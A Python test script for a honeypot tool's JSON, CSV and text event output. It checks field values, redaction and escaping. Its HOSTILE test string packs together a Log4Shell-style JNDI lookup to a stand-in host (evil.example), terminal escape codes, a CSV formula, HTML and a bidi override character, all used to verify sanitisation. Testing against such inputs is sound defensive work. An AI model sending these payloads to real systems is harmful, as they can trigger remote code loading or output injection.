#!/usr/bin/env python3
"""Do readers that are not ours understand contacts and actors? json, csv and ipaddress read them."""
import csv
import datetime
import io
import ipaddress
import json
import re
import subprocess
import sys

program = sys.argv[1]
HOSTILE = ("x\0\x1b[2J\r\n,\"=1+1<b>\\xff\u202e\u009b${jndi:ldap://evil.example/a}](http://evil.example){0}")


def run(what):
    out = subprocess.run([program, what], stdout=subprocess.PIPE, check=True).stdout
    assert b"${" not in out, out
    assert b"hunter2" not in out, out
    text = out.decode("utf-8")
    for c in text:
        assert c == "\n" or (ord(c) >= 0x20 and not 0x7f <= ord(c) < 0xa0 and c not in "\u202e\u200b"), repr(c)
    return text


def events(what):
    all_ = [json.loads(line) for line in run(what).splitlines()]
    for e in all_:
        assert re.fullmatch("[0-9a-f]{32}", e["event"]["id"]) and isinstance(e["event"]["category"], list)
        for side in ("source", "destination"):
            if "ip" in e.get(side, {}):
                ipaddress.ip_address(e[side]["ip"])
        if "@timestamp" in e:
            datetime.datetime.fromisoformat(e["@timestamp"])
    return all_


full, learned, bare, hostile = events("contact-ecs")
assert full["event"]["kind"] == "event" and full["event"]["action"] == "jndi-lookup" and full["event"]["start"] == "2025-11-25T19:59:59.500000Z"
assert full["observer"] == {"hostname": "web1.corp.example", "type": "honeypot", "product": "caltrop"}
assert full["source"] == {"address": "10.0.0.7", "ip": "10.0.0.7", "port": 50000, "domain": "WS-17"}
assert full["destination"] == {"address": "10.9.9.9", "ip": "10.9.9.9", "port": 8080, "domain": "intranet:8080"}
assert full["network"] == {"transport": "tcp", "protocol": "http", "bytes": 2100}
assert full["user"] == {"name": ["root", "admin"], "domain": "CORP"}
assert full["http"]["request"]["method"] == "GET" and full["url"]["original"] == "/login?password=***&x=1"
assert full["tls"]["client"] == {"ja4": "t12d190800_d83cc789557e_7af1ed941c26", "server_name": "intranet"}
assert full["threat"]["technique"]["id"] == ["T1110", "T1210"] and full["threat"]["tactic"]["id"] == ["TA0006", "TA0008"]
own = full["caltrop"]
assert own["command"] == ["SYST", "CONFIG GET *"] and own["more"] is True and own["grade"] == "exploit"
assert own["logins"][0] == {"user": "root", "secret_hash": "0123456789abcdef0123456789abcdef"} and "secret_hash" not in own["logins"][2]
assert own["indicators"][0] == {"scheme": "ldap", "host": "evil.example", "port": 1389, "path": "/a?token=***"}
assert learned["caltrop"]["background"] == "learned" and "actor" not in learned["caltrop"]
assert learned["source"]["address"] == "fe80::1%3" and learned["source"]["ip"] == "fe80::1"
assert "@timestamp" not in bare and "source" not in bare and "user" not in bare and bare["event"]["action"] == "datagram"
assert hostile["source"] == {"address": HOSTILE, "port": 50000, "domain": HOSTILE} and hostile["caltrop"]["raw"] == HOSTILE
assert hostile["caltrop"]["logins"] == [{"user": HOSTILE, "password": HOSTILE}]

sweep, worst, ping, crowd, hostile = events("actor-ecs")
for e in (sweep, worst, ping, crowd, hostile):
    assert e["event"]["kind"] == "alert" and e["event"]["dataset"] == "caltrop.decoy" and e["message"]
assert [e["event"]["severity"] for e in (sweep, worst, ping, crowd, hostile)] == [73, 99, 21, 47, 99]
assert sweep["message"] == "Scan of 57540 ports by 10.0.0.7 on web1[.]corp[.]example"
assert sweep["caltrop"]["tcp"] == {"count": 57539, "ports": "22,80-81,8000-65535"} and sweep["caltrop"]["udp"]["ports"] == "53 and more"
assert sweep["threat"]["technique"]["id"] == ["T1018", "T1046"] and sweep["threat"]["tactic"]["name"] == ["Discovery"]
assert worst["caltrop"]["logins_tried"] == 5000 and worst["caltrop"]["distinct_at_least"] is True and worst["user"]["name"] == ["root", "admin"]
assert worst["caltrop"]["faces"] == ["http", "ssh"] and worst["caltrop"]["news"] == "rose"
assert ping["message"] == "Ping from 10.0.0.7 on web1[.]corp[.]example (ended)" and ping["event"]["end"] == "2025-11-25T19:59:59Z"
assert "source" not in crowd and crowd["caltrop"]["sources"] == 40000 and crowd["caltrop"]["sources_shown"] == ["10.0.0.1", "fd00::1"]
assert crowd["caltrop"]["evicted"] is True and crowd["message"].startswith("Probe from 40000 sources to port 22/tcp")

alive, deaf = events("decoy")
assert alive["event"]["kind"] == "state" and alive["caltrop"]["state"] == "alive" and alive["caltrop"]["probed"] == "2025-11-25T20:00:00Z"
assert deaf["event"]["kind"] == "alert" and deaf["caltrop"]["reasons"][1] == HOSTILE and "probed" not in deaf["caltrop"]

for what, n in (("contact-csv", 4), ("actor-csv", 5)):
    rows = list(csv.DictReader(io.StringIO(run(what)), strict=True))
    assert len(rows) == n and all(None not in row and None not in row.values() for row in rows), rows
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "ldap evil.example 1389 /a?token=***; rmi 10.6.6.6" in (rows[0]["callbacks"], rows[1]["callbacks"])

for what, n in (("contact-text", 4), ("actor-text", 5)):
    lines = run(what).splitlines()
    assert len(lines) == n
    for line in lines:
        assert "://" not in line and "evil.example" not in line, line
lines = run("actor-text").splitlines()
assert lines[0] == "2025-11-25 20:00:00  new    Scan of 57540 ports by 10.0.0.7 on web1[.]corp[.]example  tcp 22,80-81,8000-65535; udp 53 and more  syn,ping", lines[0]
assert "as root, admin and 2 more  calls ldap evil[.]example 1389 and 1 more" in lines[1], lines[1]
print("json, csv and ipaddress agree")
